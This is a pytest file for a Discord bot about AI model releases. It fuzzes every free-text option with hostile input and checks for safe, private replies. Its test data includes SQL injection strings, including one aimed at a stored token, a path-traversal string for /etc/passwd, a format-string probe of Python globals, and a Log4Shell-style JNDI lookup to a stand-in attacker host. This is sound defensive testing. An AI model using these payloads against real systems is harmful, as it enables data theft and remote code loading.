@@ -1,0 +1,477 @@
+"""What strangers type: every option of every command gets it, and answers kindly and harmlessly."""
+
+from __future__ import annotations
+
+import re
+import time
+import unicodedata
+from typing import Any
+
+import pytest
+from discord import AppCommandOptionType, app_commands
+from simcord import actors
+from simcord.enums import InteractionType
+
+from bot.errors import StoreError
+from tests.commands.conftest import Room, Seen, seen
+
+NAME, DAY, CLAIM = "name", "day", "claim"
+
+OPTIONS = {
+    ("compare", "first"): NAME,
+    ("compare", "second"): NAME,
+    ("compare", "third"): NAME,
+    ("compare", "fourth"): NAME,
+    ("compare", "as_of"): DAY,
+    ("release", "name"): NAME,
+    ("release", "as_of"): DAY,
+    ("lab", "name"): NAME,
+    ("latest", "lab"): NAME,
+    ("latest", "since"): DAY,
+    ("claims", "about"): NAME,
+    ("claims", "by"): NAME,
+    ("claim show", "claim"): CLAIM,
+    ("claim show", "as_of"): DAY,
+}
+"""Every option that takes free text, and what it means."""
+
+REST = {
+    "compare": {"first": "qwen2.5-max", "second": "deepseek-v3"},
+    "release": {"name": "qwen2.5-max"},
+    "lab": {"name": "deepseek"},
+    "claim show": {"claim": "1"},
+}
+"""What the options that must be given hold while another one is attacked."""
+
+HOSTILE = {
+    "unknown": "zzqx 17 ultra",
+    "6,000 characters": "z" * 6000,
+    "6,000 characters in words": "zzqx " * 1200,
+    "6,000 emoji": "🦆" * 6000,
+    "emoji": "🦆🦆🦆",
+    "joined emoji": "👩‍👩‍👧‍👦 zzqx",
+    "right-to-left override": "\u202ezzqx\u202c",
+    "right-to-left letters": "שלום zzqx",
+    "zero width": "zz\u200bq\u200cx\u200d\ufeff",
+    "lone surrogates": "zzqx\ud800 \udfff",
+    "NUL and controls": "zz\x00q\x1b[31mx\x07",
+    "200 combining marks": "z" + "\u0301" * 200 + "qx",
+    "line separators": "zzqx\u2028\u2029zzqx",
+    "newlines": "zzqx\nzzqx\r\n\n\n# zzqx",
+    "everyone": "@everyone",
+    "here": "@here zzqx",
+    "member": "<@1>",
+    "member, old form": "<@!123456789012345678>",
+    "role": "<@&1>",
+    "channel": "<#1>",
+    "command": "</compare:1>",
+    "timestamp": "<t:0:R>",
+    "custom emoji": "<a:zzqx:1>",
+    "guide": "<id:customize>",
+    "masked link": "[x](https://evil.example)",
+    "masked link, angled": "[x](<https://evil.example>)",
+    "bare link": "https://evil.example/zzqx",
+    "link in angles": "<https://evil.example/zzqx>",
+    "code fence": "```py\nzzqx\n```",
+    "half a code fence": "```zzqx",
+    "spoiler": "||zzqx||",
+    "bold": "**zzqx** __zzqx__ ~~zzqx~~ *zzqx* _zzqx_",
+    "heading": "# zzqx",
+    "small text": "-# zzqx",
+    "quote": "> zzqx",
+    "list": "- zzqx",
+    "escaped already": "\\*zzqx\\*",
+    "SQL": "'; DROP TABLE release; --",
+    "SQL union": "x' UNION SELECT token FROM config --",
+    "FTS quote": '"',
+    "FTS star": "*",
+    "FTS near": "NEAR(zzqx",
+    "FTS and": "zzqx AND",
+    "FTS column": "quote:zzqx",
+    "minus": "-",
+    "percent": "%",
+    "percent formats": "%s%n%d zzqx",
+    "format field": "{zzqx}",
+    "format index": "{0} zzqx",
+    "format attribute": "{asked.__class__.__init__.__globals__}",
+    "half a format field": "{",
+    "closing brace": "}",
+    "path": "../../../etc/passwd",
+    "template": "${jndi:ldap://evil.example}",
+    "prefix of our own": "release:",
+    "unknown slug": "release:zzqx",
+    "unknown id": "lab#999999999999999999999",
+}
+"""Nothing in the ledger is called so, and none is a day or a claim's number."""
+
+BLANK = {"empty": "", "space": "  ", "lines": "\t\n", "invisible": "\u200b\u2060"}
+
+DISGUISED = {
+    "full width": "Ｑｗｅｎ２．５－Ｍａｘ",
+    "zero width": "q\u200bwen2.5\u200d-max",
+    "override": "\u202eqwen2.5-max",
+    "double-struck": "𝕢𝕨𝕖𝕟 2.5 max",
+    "NUL": "qwen2.5\x00-max",
+    "spaces": "   qwen \n 2.5 \t max  ",
+}
+"""Qwen2.5-Max, by what other people's clients do to text."""
+
+_EFFECT = re.compile(
+    r"""
+    (?<!\\)[*_~`|<>\[\]]      # markdown, mentions and timestamps
+  | (?<!\\)://                # a link
+  | @(?!\u200b)               # @everyone
+  | ^\s*(?:\#|-\s|-\#|>|\d+\.\s)   # headings, lists, quotes
+    """,
+    re.VERBOSE | re.MULTILINE,
+)
+_UNSEEN = frozenset({"Cc", "Cf", "Cs", "Co", "Zl", "Zp"})
+
+
+def faults_of(answer: Seen) -> list[str]:
+    """What an answer to bad input does that it must not."""
+    found: list[str] = []
+    text = answer.text
+    if not answer.ephemeral:
+        found.append("everybody sees it")
+    if not 20 <= len(text) <= 400 or "\n" in text:
+        found.append("is not one sentence or two")
+    if "Something went wrong" in text or "reference:" in text or "Traceback" in text:
+        found.append("apologises for a fault of ours")
+    if effect := _EFFECT.search(text):
+        found.append(f"has an effect: {text[max(effect.start() - 5, 0) : effect.end() + 5]!r}")
+    seen_only = text.replace("@\u200b", "@").replace("\n", "")
+    if unseen := [one for one in seen_only if unicodedata.category(one) in _UNSEEN]:
+        found.append(f"holds characters nobody sees: {unseen!r}")
+    if re.search(r"[\u0300-\u036f]{6}", unicodedata.normalize("NFD", text)):
+        found.append("lets marks pile up")
+    return found
+
+
+async def ask(room: Room, command: str, option: str, text: str) -> tuple[Seen, float]:
+    """The answer, and the CPU seconds it took: the wall clock is shared with other processes."""
+    began = time.process_time()
+    answer = await room.ask(command, **{**REST.get(command, {}), option: text})
+    return answer, time.process_time() - began
+
+
+def test_the_attack_can_fail() -> None:
+    """The check finds each kind of harm in an answer that does it."""
+
+    def said(text: str, *, ephemeral: bool = True) -> list[str]:
+        class Result:
+            pass
+
+        result: Any = Result()
+        result.ephemeral = ephemeral
+        return faults_of(Seen(result, text))
+
+    kind = "Nothing in the ledger is called “{}”. /latest shows the newest releases."
+    assert said(kind.format("zzqx")) == []
+    assert said(kind.format("zzqx"), ephemeral=False)
+    assert said("")
+    assert said("Something went wrong on our side. Please try again.")
+    for harm in (
+        "@everyone", "<@1>", "<#1>", "</compare:1>", "<t:0:R>", "[x](https\\://evil.example)",
+        "https://evil.example", "||zzqx||", "`zzqx`", "*", "\u202e", "\u200b", "\x00", "\ud800",
+        "z" + "\u0301" * 20, "zzqx\n# zzqx", "z" * 6000,
+    ):  # fmt: skip
+        assert said(kind.format(harm)), harm
+
+
+async def test_every_option_of_every_command_is_attacked(room: Room) -> None:
+    free = set()
+    for command in room.bot.tree.walk_commands():
+        if isinstance(command, app_commands.Command):
+            free |= {
+                (command.qualified_name, option.display_name)
+                for option in command.parameters
+                if option.type is AppCommandOptionType.string and not option.choices
+            }
+    assert free == set(OPTIONS)
+
+
+@pytest.mark.parametrize(("command", "option"), OPTIONS)
+async def test_bad_input_is_answered_in_kind_words_to_one_alone(
+    room: Room, command: str, option: str
+) -> None:
+    wrong: list[str] = []
+    for label, text in HOSTILE.items():
+        answer, took = await ask(room, command, option, text)
+        faults = faults_of(answer)
+        if took > 1:
+            faults.append(f"took {took:.1f} s")
+        wrong += [f"{label}: {fault}: {answer.text[:200]!r}" for fault in faults]
+    assert not wrong, "\n".join(wrong)
+
+
+@pytest.mark.parametrize(("command", "option"), OPTIONS)
+async def test_a_blank_option_is_one_left_out_or_asked_for_again(
+    room: Room, command: str, option: str
+) -> None:
+    for text in BLANK.values():
+        answer, _ = await ask(room, command, option, text)
+        if OPTIONS[command, option] == DAY and not text.strip():
+            assert not answer.ephemeral, answer.text
+        else:
+            assert faults_of(answer) == [], answer.text
+            assert "called “”" not in answer.text
+
+
+@pytest.mark.parametrize(
+    ("command", "option"), [one for one, kind in OPTIONS.items() if kind == NAME]
+)
+async def test_a_disguised_name_is_read(room: Room, command: str, option: str) -> None:
+    for label, text in DISGUISED.items():
+        if command == "compare" and option != "first":
+            rest = {"first": "gpt-4o", "second": "deepseek-v3"}
+            answer = await room.ask("compare", **{**rest, option: text})
+        else:
+            answer, _ = await ask(room, command, option, text)
+        assert not answer.ephemeral, (label, answer.text)
+        wanted = "Alibaba" if command in ("lab", "latest") or option == "by" else "Qwen2.5-Max"
+        assert wanted in answer.text, label
+        assert "\u202e" not in answer.text
+
+
+@pytest.mark.parametrize(
+    ("command", "option"),
+    [(command, option) for (command, option), kind in OPTIONS.items() if kind in (NAME, CLAIM)],
+)
+async def test_half_typed_rubbish_gets_choices_or_none(
+    room: Room, command: str, option: str
+) -> None:
+    """Autocomplete answers everything; what it offers is Discord's to take (checked at the end)."""
+    for label, text in (HOSTILE | BLANK | DISGUISED).items():
+        began = time.process_time()
+        choices = await room.member.autocomplete(room.channel, command, option, text)
+        assert time.process_time() - began < 1, label
+        assert len(choices) <= 25, label
+        for choice in choices:
+            assert 1 <= len(choice["name"]) <= 100, label
+            assert 1 <= len(choice["value"]) <= 100, label
+            assert not _UNSEEN & {unicodedata.category(one) for one in choice["name"]}, label
+    answered = [
+        request
+        for request in room.env.http_requests
+        if isinstance(request.json, dict) and request.json.get("type") == 8
+    ]
+    assert len(answered) == len(HOSTILE | BLANK | DISGUISED), "one was left without an answer"
+
+
+@pytest.mark.parametrize("words", ["qwen AND deepseek", 'NEAR("qwen" deepseek)', "-qwen", 'qw"en*'])
+async def test_search_operators_are_words_to_the_claim_search(room: Room, words: str) -> None:
+    """AND and NEAR find what holds these words, and OR does not widen the search."""
+    choices = await room.member.autocomplete(room.channel, "claim show", "claim", words)
+    plain = await room.member.autocomplete(room.channel, "claim show", "claim", "qwen")
+    assert {one["value"] for one in choices} <= {one["value"] for one in plain}
+    assert len(plain) > 1
+
+
+# names ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "names",
+    [
+        {"first": "qwen2.5-max", "second": "qwen2.5-max"},
+        {"first": "Qwen2.5-Max", "second": "qwen 2.5 max"},
+        {"first": "qwen2.5-max", "second": "deepseek-v3", "third": "Qwen 2.5 Max"},
+        {"first": "gpt-4", "second": "qwen2.5-max", "third": "o1", "fourth": "Qwen2.5 Max"},
+    ],
+)
+async def test_the_same_release_twice(room: Room, names: dict[str, str]) -> None:
+    answer = await room.ask("compare", **names)
+    assert faults_of(answer) == []
+    assert "same release, Qwen2.5-Max" in answer.text
+
+
+async def test_the_same_unknown_name_twice_is_asked_once_and_both_replaced(room: Room) -> None:
+    answer = await room.ask("compare", first="deepsek v3", second="deepsek v3")
+    assert faults_of(answer) == []
+    label = next(label for label in answer.buttons if label.startswith("DeepSeek-V3 "))
+    again = await room.press(answer, label)
+    assert faults_of(again) == []
+    assert "same release, DeepSeek-V3" in again.text
+
+
+async def test_a_second_choice_may_follow_a_wrong_first(room: Room) -> None:
+    question = await room.ask("release", name="deepsek v3")
+    for label in list(question.buttons)[:2]:
+        answer = await room.press(question, label)
+        assert label.split(" · ")[0] in answer.text
+
+
+async def test_a_name_is_never_filled_in_as_a_format(room: Room) -> None:
+    """The typed text comes back as it was typed, whatever places it holds."""
+    for text in ("{asked}", "{day}", "{name!r:>99}", "{{zzqx}}", "%(asked)s"):
+        answer = await room.ask("release", name=text)
+        assert f"“{text}”" in answer.text
+
+
+# days -----------------------------------------------------------------------------------------
+
+NO_DATE = [
+    "yesterday", "29.01.2025", "01/29/2025", "2025-1-29", "2025-01-29T00:00:00Z", "20250129",
+    "2025-02-30", "2025-13-01", "2025-00-10", "2025-01-32", "0000-01-01", "-2025-01-29",
+    "+2025-01-29", "10000-01-01", "2025-01-29 2025-01-30", "２０２５-０１-２９", "٢٠٢٥-٠١-٢٩",
+    "2025\u201301\u201329", "1e3", "NaN", "²025",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("command", "option"), [one for one, kind in OPTIONS.items() if kind == DAY]
+)
+async def test_what_is_no_date_is_shown_how_to_write_one(
+    room: Room, command: str, option: str
+) -> None:
+    for text in NO_DATE:
+        answer, _ = await ask(room, command, option, text)
+        assert faults_of(answer) == [], text
+        assert "is not a date" in answer.text, text
+        assert "2025-01-29" in answer.text, text
+
+
+@pytest.mark.parametrize(
+    ("command", "option"), [one for one, kind in OPTIONS.items() if kind == DAY]
+)
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("0001-01-01", "year 1"),
+        ("0001", "year 1"),
+        ("1949-12-31", "year 1949"),
+        ("9999-12-31", "9999-12-31 is still to come"),
+        ("9999", "is still to come"),
+        ("2026-11-24", "2026-11-24 is still to come"),
+        ("2026-12", "is still to come"),
+    ],
+)
+async def test_days_the_ledger_cannot_speak_for(
+    room: Room, command: str, option: str, text: str, said: str
+) -> None:
+    answer, _ = await ask(room, command, option, text)
+    assert faults_of(answer) == []
+    assert said in answer.text
+
+
+@pytest.mark.parametrize("text", ["2026", "2026-11", "2026-11-23", " 2026-11-23 "])
+async def test_the_present_year_month_and_day_mean_today(room: Room, text: str) -> None:
+    answer = await room.ask("release", name="qwen2.5-max", as_of=text)
+    assert not answer.ephemeral, answer.text
+    assert "Qwen2.5-Max" in answer.text
+
+
+@pytest.mark.parametrize(
+    ("command", "options"),
+    [
+        ("release", {"name": "qwen2.5-max"}),
+        ("release", {"name": "release:qwen2.5-max"}),
+        ("compare", {"first": "qwen2.5-max", "second": "gpt-4o"}),
+    ],
+)
+async def test_a_release_asked_for_before_it_came_is_not_called_unknown(
+    room: Room, command: str, options: dict[str, str]
+) -> None:
+    answer = await room.ask(command, **options, as_of="2025-01-27")
+    assert faults_of(answer) == []
+    assert "Qwen2.5-Max was not out by 2025-01-27" in answer.text
+    assert "2025-01-28" in answer.text
+    assert "release:" not in answer.text
+
+
+@pytest.mark.parametrize(
+    ("command", "options"),
+    [
+        ("release", {"name": "qwen"}),
+        ("compare", {"first": "deepseek", "second": "openai"}),
+        ("claim show", {"claim": "1"}),
+    ],
+)
+async def test_before_anything_existed(room: Room, command: str, options: dict[str, str]) -> None:
+    answer = await room.ask(command, **options, as_of="1950-01-01")
+    assert faults_of(answer) == []
+
+
+# claims' numbers --------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "said"),
+    [
+        ("0", "no claim #0"),
+        ("999999", "no claim #999999"),
+        ("9" * 18, "no claim #"),
+        ("9" * 19, "is not a claim's number"),
+        ("9" * 6000, "is not a claim's number"),
+        ("-1", "is not a claim's number"),
+        ("1.0", "is not a claim's number"),
+        ("1e1", "is not a claim's number"),
+        ("0x1", "is not a claim's number"),
+        ("##1", "is not a claim's number"),
+        ("١", "is not a claim's number"),
+        ("²", "is not a claim's number"),
+        ("deepseek", "is not a claim's number"),
+    ],
+)
+async def test_a_claim_there_is_not(room: Room, text: str, said: str) -> None:
+    answer = await room.ask("claim show", claim=text)
+    assert faults_of(answer) == []
+    assert said in answer.text
+
+
+# what only a client out of date, or our own trouble, sends ---------------------------------------
+
+
+async def send(room: Room, command: str, options: list[dict[str, Any]]) -> Seen:
+    """A command as the gateway brings it, whatever Discord itself would have refused."""
+    root = room.env.backend.find_command(command, room.guild.id, type=1)
+    data = {"id": root["id"] if root else "1", "name": command, "type": 1, "options": options}
+    return seen(
+        await actors._dispatch_actor_interaction(
+            room.member, InteractionType.APPLICATION_COMMAND, room.channel, data
+        )
+    )
+
+
+@pytest.mark.parametrize("text", ["nonsense", "", "{text}", "@everyone", "z" * 6000, "Confirmed"])
+async def test_a_status_that_is_none(room: Room, text: str) -> None:
+    answer = await send(room, "claims", [{"name": "status", "type": 3, "value": text}])
+    assert faults_of(answer) == []
+    assert "no status" in answer.text
+
+
+@pytest.mark.parametrize(
+    ("command", "options"),
+    [
+        ("gone", []),
+        ("release", []),
+        ("release", [{"name": "nom", "type": 3, "value": "qwen"}]),
+        ("compare", [{"name": "first", "type": 3, "value": "qwen"}]),
+        ("claim", []),
+        ("claim", [{"name": "gone", "type": 1, "options": []}]),
+    ],
+)
+async def test_a_command_that_has_changed_since(
+    room: Room, command: str, options: list[dict[str, Any]]
+) -> None:
+    answer = await send(room, command, options)
+    assert faults_of(answer) == []
+    assert "has changed" in answer.text
+
+
+async def test_trouble_with_the_store_is_not_told_to_strangers(
+    room: Room, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
+) -> None:
+    """Its words name files; the person gets a reference, the log the words."""
+
+    async def broken(*_: object) -> None:
+        raise StoreError("The store {path} could not be used.", path="/srv/secret/ledger.db")
+
+    monkeypatch.setattr(room.bot.ledger._store, "read", broken)
+    answer = await room.ask("release", name="qwen2.5-max")
+    assert answer.ephemeral
+    assert "secret" not in answer.text
+    assert "reference" in answer.text
+    assert "/srv/secret/ledger.db" in caplog.text
+    caplog.clear()
